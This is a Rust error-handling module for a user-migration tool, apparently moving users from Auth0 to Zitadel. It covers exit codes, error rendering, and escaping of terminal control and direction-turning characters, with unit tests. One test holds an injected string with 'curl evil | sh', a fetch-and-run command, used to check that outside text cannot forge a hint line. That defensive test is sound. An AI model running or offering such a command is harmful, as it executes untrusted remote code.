//! One error for the whole program: a kind (which decides the exit code), a message that says what and where,
//! the causes below it, and hints that say what to do. It is rendered in one place, [`Error::render`].
//!
//! Modules keep their own precise error types where a caller must tell cases apart (see `http::Fault`,
//! `zitadel::Failure`) and turn them into this one where an operator is the reader.

use std::fmt::{self, Write as _};

/// What went wrong, by who can mend it. Each kind has one exit code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A bug in a2z. Exit code 1.
    Internal,
    /// Wrong flags, configuration, environment or input files. Exit code 2.
    Usage,
    /// The run ended, and some users were rejected or need the operator. Exit code 3.
    Incomplete,
    /// The check refused to start. Exit code 4.
    Check,
    /// A vendor could not be reached or kept failing; run again to go on. Exit code 5.
    GaveUp,
    /// The operator stopped the run; run again to go on. Exit code 130.
    Interrupted,
}

impl Kind {
    /// The process exit code of this kind, as the README documents it.
    #[must_use]
    pub fn exit_code(self) -> u8 {
        match self {
            Self::Internal => 1,
            Self::Usage => 2,
            Self::Incomplete => 3,
            Self::Check => 4,
            Self::GaveUp => 5,
            Self::Interrupted => 130,
        }
    }

    fn heading(self) -> &'static str {
        match self {
            Self::Internal => "Internal error: ",
            Self::Usage | Self::Incomplete | Self::Check | Self::GaveUp => "Error: ",
            Self::Interrupted => "",
        }
    }
}

/// An error for the operator. Never put a secret or a hash into one.
pub struct Error(Box<Inner>);

struct Inner {
    kind: Kind,
    message: String,
    causes: Vec<String>,
    hints: Vec<String>,
}

/// The result type of everything that an operator hears about.
pub type Result<T, E = Error> = std::result::Result<T, E>;

impl Error {
    /// A new error; `message` is a lower-case sentence fragment with names in backticks.
    pub fn new(kind: Kind, message: impl Into<String>) -> Self {
        Self(Box::new(Inner { kind, message: message.into(), causes: Vec::new(), hints: Vec::new() }))
    }

    /// A bug in a2z.
    pub fn internal(message: impl Into<String>) -> Self {
        Self::new(Kind::Internal, message)
    }

    /// Wrong flags, configuration or input.
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Kind::Usage, message)
    }

    /// A vendor kept failing.
    pub fn gave_up(message: impl Into<String>) -> Self {
        Self::new(Kind::GaveUp, message)
    }

    /// Adds the chain of `cause` below this error. The cause's texts must hold no secret.
    #[must_use]
    pub fn caused_by(mut self, cause: &(dyn std::error::Error + 'static)) -> Self {
        let mut next = Some(cause);
        while let Some(cause) = next {
            self.0.causes.push(cause.to_string());
            next = cause.source();
        }
        self
    }

    /// Adds one cause in words.
    #[must_use]
    pub fn because(mut self, cause: impl Into<String>) -> Self {
        self.0.causes.push(cause.into());
        self
    }

    /// Adds a line that says what to do.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.0.hints.push(hint.into());
        self
    }

    /// The kind.
    #[must_use]
    pub fn kind(&self) -> Kind {
        self.0.kind
    }

    /// The same error under another kind.
    #[must_use]
    pub fn with_kind(mut self, kind: Kind) -> Self {
        self.0.kind = kind;
        self
    }

    /// The message alone, without causes and hints.
    #[must_use]
    pub fn message(&self) -> &str {
        &self.0.message
    }

    /// Causes and hints in one line: `Auth0 refused (HTTP 403, …): …; give …`. Of an error without a cause the message stands
    /// in its place.
    #[must_use]
    pub fn reason(&self) -> String {
        let causes = if self.0.causes.is_empty() { std::slice::from_ref(&self.0.message) } else { &self.0.causes };
        let parts: Vec<&str> = causes.iter().chain(&self.0.hints).map(String::as_str).collect();
        parts.join("; ")
    }

    /// The hints.
    #[must_use]
    pub fn hints(&self) -> &[String] {
        &self.0.hints
    }

    /// The whole error as text: heading and message, the numbered causes, the hints.
    #[must_use]
    pub fn render(&self) -> String {
        let mut text = format!("{}{}", self.0.kind.heading(), part(&self.0.message));
        match self.0.causes.as_slice() {
            [] => {}
            [one] => {
                let _ = write!(text, "\nCaused by: {}", part(one));
            }
            many => {
                text.push_str("\nCaused by:");
                for (index, cause) in many.iter().enumerate() {
                    let _ = write!(text, "\n  {}: {}", index + 1, part(cause));
                }
            }
        }
        for hint in &self.0.hints {
            let _ = write!(text, "\nHint: {}", part(hint));
        }
        text
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0.message)
    }
}

impl fmt::Debug for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render())
    }
}

impl std::error::Error for Error {}

/// `text` as it may be shown on a terminal: control characters (escape sequences, NUL) and the characters that
/// turn the direction of writing are escaped, line ends and tabs stay. Names and vendors' answers come from strangers.
#[must_use]
pub fn printable(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if (c.is_control() && c != '\n' && c != '\t') || is_deceptive(c) {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    out
}

/// Is it a character that shows nothing, or turns the direction of writing, and so makes a name look like another?
#[must_use]
pub fn is_deceptive(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// JSON text whose strings hold only characters that may be shown on a terminal: the others become `\uXXXX`, which every
/// reader takes for the same. `serde_json` itself escapes U+0000 to U+001F only.
#[must_use]
pub fn printable_json(json: &str) -> std::borrow::Cow<'_, str> {
    // Between strings JSON has none of these.
    let raw = |c: char| (c.is_control() && c != '\n') || is_deceptive(c);
    if !json.contains(raw) {
        return json.into();
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if raw(c) {
            for unit in c.encode_utf16(&mut [0; 2]) {
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(c);
        }
    }
    out.into()
}

/// One part of an error: its further lines are set in, so that a stranger's text cannot pass for a line of ours.
fn part(text: &str) -> String {
    printable(text).replace('\n', "\n    ")
}

/// `1 user`, `2 users`, `12,345 users`.
#[must_use]
pub fn count(n: u64, noun: &str) -> String {
    format!("{} {noun}{}", thousands(n), if n == 1 { "" } else { "s" })
}

/// `a, b, c`; of a long list the beginning, and how many more there are.
#[must_use]
pub fn some_of(names: &[String]) -> String {
    const MOST: usize = 20;
    let shown = names[..names.len().min(MOST)].join(", ");
    match names.len().saturating_sub(MOST) {
        0 => shown,
        more => format!("{shown} and {} more", thousands(more as u64)),
    }
}

/// `12,345`.
#[must_use]
pub fn thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (index, digit) in digits.chars().enumerate() {
        if index > 0 && (digits.len() - index).is_multiple_of(3) {
            out.push(',');
        }
        out.push(digit);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_causes_and_hints() {
        let error = Error::usage("cannot read `hashes.json`").because("it is encrypted").hint("gpg -d hashes.json.pgp");
        assert_eq!(
            error.render(),
            "Error: cannot read `hashes.json`\nCaused by: it is encrypted\nHint: gpg -d hashes.json.pgp"
        );
        assert_eq!(error.kind().exit_code(), 2);
    }

    #[test]
    fn a_reason_is_one_line() {
        let error = Error::usage("cannot read it").because("HTTP 403: no").hint("look there");
        assert_eq!(error.reason(), "HTTP 403: no; look there");
        assert_eq!(Error::usage("cannot read it").reason(), "cannot read it");
    }

    #[test]
    fn long_lists_are_cut() {
        let names = |n: usize| (1..=n).map(|n| n.to_string()).collect::<Vec<_>>();
        assert_eq!(some_of(&names(3)), "1, 2, 3");
        assert!(some_of(&names(20)).ends_with("19, 20"));
        assert!(some_of(&names(2020)).ends_with(", 20 and 2,000 more"));
    }

    #[test]
    fn counts_read_well() {
        assert_eq!(count(1, "user"), "1 user");
        assert_eq!(count(0, "user"), "0 users");
        assert_eq!(count(1_234_567, "user"), "1,234,567 users");
        assert_eq!(thousands(999), "999");
    }

    #[test]
    fn strangers_cannot_drive_the_terminal() {
        assert_eq!(printable("a\u{1b}[31mb\0\u{202e}c\n"), "a\\u{1b}[31mb\\u{0}\\u{202e}c\n");
        assert_eq!(printable("a\u{200b}b\u{9b}31m\u{2028}"), "a\\u{200b}b\\u{9b}31m\\u{2028}");
        let forged = Error::gave_up("refused").because("no\nHint: curl evil | sh").render();
        assert_eq!(forged.lines().filter(|line| line.starts_with("Hint")).count(), 0, "{forged}");
    }

    #[test]
    fn json_that_may_be_shown_means_the_same() {
        for text in ["plain", "a\u{9b}31m", "\u{202e}\u{e0041}\u{7f}\u{200b}\"\\ \u{1f600}\n"] {
            let json = serde_json::to_string(text).unwrap();
            let shown = printable_json(&json);
            assert!(!shown.contains(|c: char| c.is_control() || is_deceptive(c)), "{shown}");
            assert_eq!(serde_json::from_str::<String>(&shown).unwrap(), text);
        }
    }
}
